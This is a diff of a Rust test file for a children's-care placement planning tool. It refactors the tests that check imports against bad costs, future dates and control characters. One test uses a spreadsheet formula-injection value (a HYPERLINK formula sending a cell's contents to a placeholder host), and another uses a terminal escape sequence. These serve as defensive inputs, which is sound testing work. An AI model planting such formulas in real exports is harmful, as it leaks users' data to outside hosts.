@@ -10,6 +10,18 @@ use common::files::{write_csv, SSDA903_EPISODES, SSDA903_HEADER};
 use placement_planner::store::Store;
 use std::process::{Command, Stdio};
 
+/// A new empty database in `dir`, made with `new`.
+fn new_db(dir: &tempfile::TempDir) -> std::path::PathBuf {
+    let db = dir.path().join("c.sqlite");
+    common::succeeds(common::planner().arg("new").arg("--db").arg(&db));
+    db
+}
+
+/// What the command printed, whether or not it succeeded.
+fn printed(cmd: &mut assert_cmd::Command) -> String {
+    String::from_utf8_lossy(&cmd.output().unwrap().stdout).into_owned()
+}
+
 /// The command's failure message (it must fail).
 fn fails(cmd: &mut assert_cmd::Command) -> String {
     let out = cmd.output().unwrap();
@@ -40,9 +52,8 @@ fn with_stdout_closed(args: &[&str]) -> (bool, String) {
 #[test]
 fn an_import_piped_into_a_closed_reader_is_still_done() {
     let dir = tempfile::tempdir().unwrap();
-    let db = dir.path().join("c.sqlite");
+    let db = new_db(&dir);
     let db_arg = db.to_str().unwrap();
-    common::succeeds(common::planner().args(["new", "--db", db_arg]));
     let h = write_csv(
         dir.path(),
         "header.csv",
@@ -147,9 +158,8 @@ fn another_programs_sqlite_file_is_refused_and_left_alone() {
 #[test]
 fn names_that_are_formulas_are_exported_as_text() {
     let dir = tempfile::tempdir().unwrap();
-    let db = dir.path().join("c.sqlite");
+    let db = new_db(&dir);
     let db_arg = db.to_str().unwrap();
-    common::succeeds(common::planner().args(["new", "--db", db_arg]));
     let formula = "=HYPERLINK(\"http://example.invalid/?\"&B2,\"Click\")";
     {
         let mut s = Store::open(&db).unwrap();
@@ -322,9 +332,8 @@ const CARERS_HEADER: &str = "id,name,sector,agency,approved_places,age_min,age_m
 #[test]
 fn implausible_weekly_costs_are_refused_or_noted() {
     let dir = tempfile::tempdir().unwrap();
-    let db = dir.path().join("c.sqlite");
+    let db = new_db(&dir);
     let db_arg = db.to_str().unwrap();
-    common::succeeds(common::planner().args(["new", "--db", db_arg]));
     let file = write_csv(
         dir.path(),
         "carers.csv",
@@ -335,12 +344,11 @@ fn implausible_weekly_costs_are_refused_or_noted() {
             "FC3,The Threes,in_house,,2,0,17,yes,,,450,active,01/04/2020,",
         ],
     );
-    let out = common::planner()
-        .args(["import", "carers", "--dry-run", "--db", db_arg])
-        .arg(&file)
-        .output()
-        .unwrap();
-    let stdout = String::from_utf8_lossy(&out.stdout);
+    let stdout = printed(
+        common::planner()
+            .args(["import", "carers", "--dry-run", "--db", db_arg])
+            .arg(&file),
+    );
     assert!(
         stdout.contains(
             "£1,000,000,000 a week is more than £100,000: check it is in pounds, not pence"
@@ -440,21 +448,19 @@ fn a_device_or_a_pipe_is_not_read() {
 #[test]
 fn control_characters_are_refused_and_never_echoed() {
     let dir = tempfile::tempdir().unwrap();
-    let db = dir.path().join("c.sqlite");
+    let db = new_db(&dir);
     let db_arg = db.to_str().unwrap();
-    common::succeeds(common::planner().args(["new", "--db", db_arg]));
     let file = write_csv(
         dir.path(),
         "carers.csv",
         CARERS_HEADER,
         &["FC1,The \u{1b}[2JSmiths,in_house,,2,0,17,yes,,,450,active,01/04/2020,"],
     );
-    let out = common::planner()
-        .args(["import", "carers", "--db", db_arg])
-        .arg(&file)
-        .output()
-        .unwrap();
-    let stdout = String::from_utf8_lossy(&out.stdout);
+    let stdout = printed(
+        common::planner()
+            .args(["import", "carers", "--db", db_arg])
+            .arg(&file),
+    );
     assert!(
         stdout.contains("holds a control character (\\u{1b})"),
         "{stdout}"
@@ -477,9 +483,8 @@ fn control_characters_are_refused_and_never_echoed() {
 #[test]
 fn dates_that_must_be_past_are_refused_in_the_future() {
     let dir = tempfile::tempdir().unwrap();
-    let db = dir.path().join("c.sqlite");
+    let db = new_db(&dir);
     let db_arg = db.to_str().unwrap();
-    common::succeeds(common::planner().args(["new", "--db", db_arg]));
     let h = write_csv(
         dir.path(),
         "header.csv",
@@ -492,13 +497,12 @@ fn dates_that_must_be_past_are_refused_in_the_future() {
         SSDA903_EPISODES,
         &["Z1,12/11/2199,S,C2,N1,U4,PR4,,,,,,"],
     );
-    let out = common::planner()
-        .args(["import", "ssda903", "--dry-run", "--db", db_arg])
-        .arg(&h)
-        .arg(&e)
-        .output()
-        .unwrap();
-    let stdout = String::from_utf8_lossy(&out.stdout);
+    let stdout = printed(
+        common::planner()
+            .args(["import", "ssda903", "--dry-run", "--db", db_arg])
+            .arg(&h)
+            .arg(&e),
+    );
     assert!(
         stdout.contains(
             "episodes.csv line 2, column DECOM, value '12/11/2199': 12/11/2199 is after today: a return records what has happened"
@@ -511,12 +515,11 @@ fn dates_that_must_be_past_are_refused_in_the_future() {
         "id,name,date_of_birth,sex,legal_status,category_of_need,disability,sibling_group,home_postcode,status,entered_care,left_care",
         &["K1,Kim,01/01/2012,2,C2,N1,no,,,looked_after,01/01/2199,"],
     );
-    let out = common::planner()
-        .args(["import", "children", "--dry-run", "--db", db_arg])
-        .arg(&children)
-        .output()
-        .unwrap();
-    let stdout = String::from_utf8_lossy(&out.stdout);
+    let stdout = printed(
+        common::planner()
+            .args(["import", "children", "--dry-run", "--db", db_arg])
+            .arg(&children),
+    );
     assert!(
         stdout.contains("the date the child entered care is after today"),
         "{stdout}"
